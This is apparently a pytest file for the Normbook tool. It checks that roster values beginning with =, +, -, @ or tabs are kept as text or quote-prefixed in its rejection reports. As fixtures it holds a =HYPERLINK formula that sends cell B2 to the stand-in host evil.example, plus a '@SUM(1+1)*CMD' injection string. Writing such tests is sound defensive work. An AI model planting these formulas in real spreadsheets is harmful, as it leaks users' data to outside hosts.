"""Hostile input against what Normbook writes: formulas in the reports, report size, outputs.

Items of the issue "Hostile input and faults": a roster field holding a formula must come back
as text in rejections.xlsx and neutralised in the CSV reports; a 20,000-row rejection report
is written in linear time; ``form -o f.pdf``, ``forms -o FILE`` and ``--jobs 100000`` are
refused or capped with one clear line; names that differ only by Unicode normalisation are
the same name.
"""

from __future__ import annotations

import csv
import io
import time
import unicodedata
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hostile_support import run_capped
from test_forms_support import DATA, make_applicant, roster_row, valid_id

from normbook.cli import main
from normbook.forms.applicant import APPLICANT_FIELDS, PROJECT_FIELDS, Problem, Project
from normbook.forms.batch import (
    BatchResult,
    available_cpus,
    worker_count,
    write_forms,
    write_reports,
)
from normbook.forms.validate import validate
from normbook.safe_cells import FORMULA_START, csv_field, put_value

# Upper case: rows are grouped by the ID number upper-cased, so the report shows it as given.
HYPERLINK = '=HYPERLINK("HTTP://EVIL.EXAMPLE/?"&B2,"CLICK")'
COLUMNS = [*APPLICANT_FIELDS, *PROJECT_FIELDS]


def hostile_rows() -> list[dict[str, str]]:
    """Rows 2-7, each rejected, each with text that a spreadsheet would run or mangle."""
    a = make_applicant(1)
    base = roster_row(a, a.projects[0])
    return [
        {**base, "id_number": HYPERLINK},           # row 2
        {**base, "id_number": "-"},                  # row 3: an ID typed as a dash
        {**base, "id_number": "+86 1385711"},        # row 4
        {**base, "id_number": "@SUM(1+1)*CMD"},      # row 5
        {**base, "id_number": "-5"},                 # row 6: a plain negative number
        {**base, "id_number": "#N/A"},               # row 7: an error code as text
    ]


def write_csv_roster(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    return path


def write_xlsx_roster(path: Path, rows: list[dict[str, str]]) -> Path:
    """An .xlsx roster whose cells are all TEXT cells (the formula too: data_type "s")."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(COLUMNS)
    for r, row in enumerate(rows, 2):
        for c, key in enumerate(COLUMNS, 1):
            cell = sheet.cell(r, c, row[key])
            cell.data_type = "s"  # "=HYPERLINK(...)" and "#N/A" typed as text, not computed
            cell.number_format = "@"
    book.save(path)
    return path


def report_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def assert_no_formula(path: Path) -> None:
    """No cell of the workbook is a formula, neither as openpyxl reads it nor in its XML."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = openpyxl.load_workbook(path)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


# ---- 1. formula injection into the rejection reports ----------------------------------------

@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formula_in_roster_is_text_in_every_report(tmp_path: Path, kind: str) -> None:
    rows = hostile_rows()
    writer = write_csv_roster if kind == "csv" else write_xlsx_roster
    roster = writer(tmp_path / f"roster.{kind}", rows)
    out = tmp_path / "out"
    result = write_forms(roster, out)
    assert result.rejected_rows == {2, 3, 4, 5, 6, 7} and not result.forms

    xlsx = out / "rejections.xlsx"
    assert_no_formula(xlsx)
    sheet = openpyxl.load_workbook(xlsx)["rejections"]
    ids = {cell.row: cell for cell in sheet["B"][1:]}
    by_row = {sheet.cell(r, 1).value: ids[r] for r in ids}
    for excel_row, given in zip(range(2, 8), rows, strict=True):
        cell = by_row[excel_row]
        assert cell.data_type == "s" and cell.value == given["id_number"], cell.coordinate
    assert by_row[2].value == HYPERLINK

    shown = {int(r["row"]): r["id_number"] for r in report_csv(out / "rejections.csv")}
    assert shown[2] == "'" + HYPERLINK  # neutralised, still readable
    assert shown[3] == "'-"
    assert shown[4] == "'+86 1385711"
    assert shown[5] == "'@SUM(1+1)*CMD"
    assert shown[6] == "-5"  # a negative number holds no formula: left as it is
    assert shown[7] == "#N/A"
    for name in ("rejections.csv", "warnings.csv"):
        for record in report_csv(out / name):
            for value in record.values():
                assert not value.startswith(FORMULA_START) or value == "-5", (name, value)


def test_command_writes_formula_as_text(tmp_path: Path) -> None:
    roster = write_csv_roster(tmp_path / "roster.csv", hostile_rows()[:1])
    outcome = run_capped(["forms", str(roster), "-o", str(tmp_path / "out")], timeout=120)
    assert outcome.code == 1, outcome.err
    assert_no_formula(tmp_path / "out" / "rejections.xlsx")
    text = (tmp_path / "out" / "rejections.csv").read_text(encoding="utf-8-sig")
    assert "\n2,\"'=HYPERLINK(" in text


def test_csv_field_rule() -> None:
    for hostile in ("=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", "-", "=HYPERLINK(\"x\")"):
        assert csv_field(hostile) == "'" + hostile
    for kept in ("-5", "-0.25", "plain", "王丽华", "", " =1", 5, -5, None):
        assert csv_field(kept) == kept


def test_put_value_keeps_text_and_values(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    values = [HYPERLINK, "#N/A", "-", "+1", "a\x01b", 12, -3.5, None, "text"]
    for column, value in enumerate(values, 1):
        put_value(sheet.cell(1, column), value)
    path = tmp_path / "t.xlsx"
    book.save(path)
    sheet = openpyxl.load_workbook(path).active
    got = [sheet.cell(1, c) for c in range(1, len(values) + 1)]
    assert [c.data_type for c in got[:5]] == ["s"] * 5
    assert got[0].value == HYPERLINK and got[0].quotePrefix
    assert got[1].value == "#N/A" and got[2].value == "-" and got[3].value == "+1"
    assert got[4].value == "a\ufffdb"  # a character an .xlsx cannot hold, shown, no crash
    assert [c.value for c in got[5:]] == [12, -3.5, None, "text"]
    assert not got[8].quotePrefix


@pytest.mark.parametrize("source", [HYPERLINK, "#N/A"])
def test_estimate_workbook_keeps_user_text_as_text_and_its_formulas_live(source: str) -> None:
    """A prices workbook's name and cells as text (``#N/A`` was an error cell), while the
    estimate's own formulas still compute."""
    from normbook.estimate import (
        EquipmentPrice,
        EstimateRequest,
        MaterialPrice,
        Prices,
        estimate,
        needed_items,
    )
    from normbook.estimate.workbook import build_estimate_workbook

    appendices = ("VI",)
    equipment = {item.key: EquipmentPrice(Decimal(1000), where=source)
                 for item in needed_items(appendices, "equipment")}
    materials = {item.key: MaterialPrice(Decimal(2000), where="@SUM(1)")
                 for item in needed_items(appendices, "material")}
    est = estimate(EstimateRequest(appendices, 2026),
                   Prices(equipment=equipment, materials=materials, source=source))
    book = build_estimate_workbook(est, prices_source=source)
    buffer = io.BytesIO()
    book.save(buffer)
    book = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    user_text = formulas = 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(source):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    user_text += 1
                assert cell.data_type != "e", (sheet.title, cell.coordinate, cell.value)
                formulas += cell.data_type == "f"
    assert user_text >= 2  # Inputs' "Prices from" and the Prices sheet's source column
    assert formulas > 10  # the estimate's own formulas still compute
    assert any(c.value == source and c.data_type == "s" for c in book["Inputs"]["B"])


# ---- 2. report writing in linear time --------------------------------------------------------

def test_20000_row_rejection_report_is_linear(tmp_path: Path) -> None:
    """Before: ``sheet.max_row`` per problem made this about a minute; now a few seconds."""
    problems = [Problem("id_number", "has 46 characters; an ID number has 18", row=r,
                        id_number=f"=X{r}") for r in range(2, 20_002)]
    result = BatchResult(rows_in=20_000, blank_rows=(), rejections=problems)
    start = time.perf_counter()
    write_reports(result, tmp_path)
    seconds = time.perf_counter() - start
    assert seconds < 20, f"{seconds:.1f} s for 20,000 problems"
    sheet = openpyxl.load_workbook(tmp_path / "rejections.xlsx", read_only=True)["rejections"]
    last = list(sheet.iter_rows(min_row=20_001, values_only=True))
    assert last == [(20_001, "=X20001", "id_number", "has 46 characters; an ID number has 18")]


def test_8000_rows_sharing_one_bad_id_end_to_end(tmp_path: Path) -> None:
    """Before: 50 s here (300 s in the issue); each applicant error is repeated per row."""
    a = make_applicant(1, id_number=valid_id()[:17] + "0", education="初中")
    rows = [{**roster_row(a, a.projects[0]), "project": f"电子天平{i}"} for i in range(8000)]
    roster = write_csv_roster(tmp_path / "shared.csv", rows)
    outcome = run_capped(["forms", str(roster), "-o", str(tmp_path / "out")], timeout=240)
    assert not outcome.timed_out and outcome.code == 1, outcome.err[-500:]
    assert outcome.seconds < 30, f"{outcome.seconds:.1f} s"  # about 3 s here; 50 s before
    report = report_csv(tmp_path / "out" / "rejections.csv")
    assert {int(r["row"]) for r in report} == set(range(2, 8002))


# ---- 3. form -o with the wrong suffix --------------------------------------------------------

@pytest.mark.parametrize("name", ["f.pdf", "f.xlsx", "f"])
def test_form_refuses_output_not_docx(tmp_path: Path, name: str) -> None:
    out = tmp_path / "o"
    out.mkdir()
    for pdf in ([], ["--pdf"]):
        outcome = run_capped(["form", str(DATA / "applicant.json"), "-o", str(out / name),
                              *pdf])
        assert outcome.one_line_error(2), outcome.err
        assert ".docx" in outcome.err
        assert list(out.iterdir()) == []


def test_form_accepts_upper_case_docx(tmp_path: Path) -> None:
    assert main(["form", str(DATA / "applicant.json"), "-o", str(tmp_path / "F.DOCX")]) == 0
    assert (tmp_path / "F.DOCX").stat().st_size > 0


# ---- 4. --jobs capped at the CPU count -------------------------------------------------------

def test_worker_count_is_capped() -> None:
    cpus = available_cpus()
    assert worker_count(100_000) == cpus
    assert worker_count(None) == min(2, cpus) and worker_count(1) == 1
    assert worker_count(-3) == 1


def test_jobs_beyond_the_cpus_warns_and_runs(tmp_path: Path) -> None:
    a = make_applicant(1)
    roster = write_csv_roster(tmp_path / "r.csv", [roster_row(a, a.projects[0])])
    outcome = run_capped(["forms", str(roster), "-o", str(tmp_path / "out"),
                          "--jobs", "100000"])
    assert outcome.code == 0, outcome.err
    warnings = [x for x in outcome.err.splitlines() if x.startswith("normbook: warning:")]
    assert len(warnings) == 1 and "--jobs 100000" in warnings[0]
    assert f"using {available_cpus()}" in warnings[0]


def test_pool_never_gets_more_workers_than_cpus(tmp_path: Path, monkeypatch) -> None:
    import concurrent.futures

    asked = []

    class Refused(Exception):
        pass

    def fake_pool(workers, **_):
        asked.append(workers)
        raise Refused

    monkeypatch.setattr(concurrent.futures, "ProcessPoolExecutor", fake_pool)
    rows = []
    for i in range(45):  # a pool only from PARALLEL_FROM (40) forms
        a = make_applicant(1, id_number=valid_id(f"330106198503121{i:02d}"))
        rows.append(roster_row(a, a.projects[0]))
    roster = write_csv_roster(tmp_path / "r.csv", rows)
    with pytest.raises(Refused):
        write_forms(roster, tmp_path / "out", jobs=100_000)
    assert asked == [min(100_000, available_cpus())]


def test_jobs_below_one_is_refused(tmp_path: Path) -> None:
    a = make_applicant(1)
    roster = write_csv_roster(tmp_path / "r.csv", [roster_row(a, a.projects[0])])
    outcome = run_capped(["forms", str(roster), "-o", str(tmp_path / "out"), "--jobs", "0"])
    assert outcome.one_line_error(2) and "--jobs" in outcome.err
    assert not (tmp_path / "out").exists()


# ---- 5. forms -o an existing file; Unicode normalisation -------------------------------------

def test_forms_output_that_is_a_file_exits_2(tmp_path: Path) -> None:
    a = make_applicant(1)
    roster = write_csv_roster(tmp_path / "r.csv", [roster_row(a, a.projects[0])])
    existing = tmp_path / "existing_file"
    existing.write_bytes(b"keep")
    for target in (existing, existing / "sub", tmp_path / "forms.docx"):
        outcome = run_capped(["forms", str(roster), "-o", str(target)])
        assert outcome.one_line_error(2), outcome.err
        assert "must be a folder" in outcome.err and "Errno" not in outcome.err
    assert existing.read_bytes() == b"keep" and not (tmp_path / "forms.docx").exists()


def test_names_differing_only_by_normalisation_are_the_same(tmp_path: Path) -> None:
    nfc = unicodedata.normalize("NFC", "Zoë 王")
    nfd = unicodedata.normalize("NFD", nfc)
    assert nfc != nfd
    a = make_applicant(2, name=nfc)
    rows = [roster_row(a, p) for p in a.projects]
    rows[1]["name"] = nfd
    rows[1]["employer"] = unicodedata.normalize("NFD", "Café " + rows[1]["employer"])
    rows[0]["employer"] = unicodedata.normalize("NFC", rows[1]["employer"])
    roster = write_csv_roster(tmp_path / "r.csv", rows)
    result = write_forms(roster, tmp_path / "out")
    assert not result.rejections, [str(p) for p in result.rejections]
    assert len(result.forms) == 1 and result.forms[0].name == nfc


def test_repeated_project_in_nfd_is_a_repeat() -> None:
    project = Project("力学", unicodedata.normalize("NFC", "Balance é"), "", "JJG 1036-2022")
    repeat = Project("力学", unicodedata.normalize("NFD", project.project), "",
                     "JJG 1036-2022")
    verdict = validate(make_applicant([project, repeat]))
    assert len(verdict.applicant.projects) == 1
    assert any("repeats" in p.reason for p in verdict.warnings)
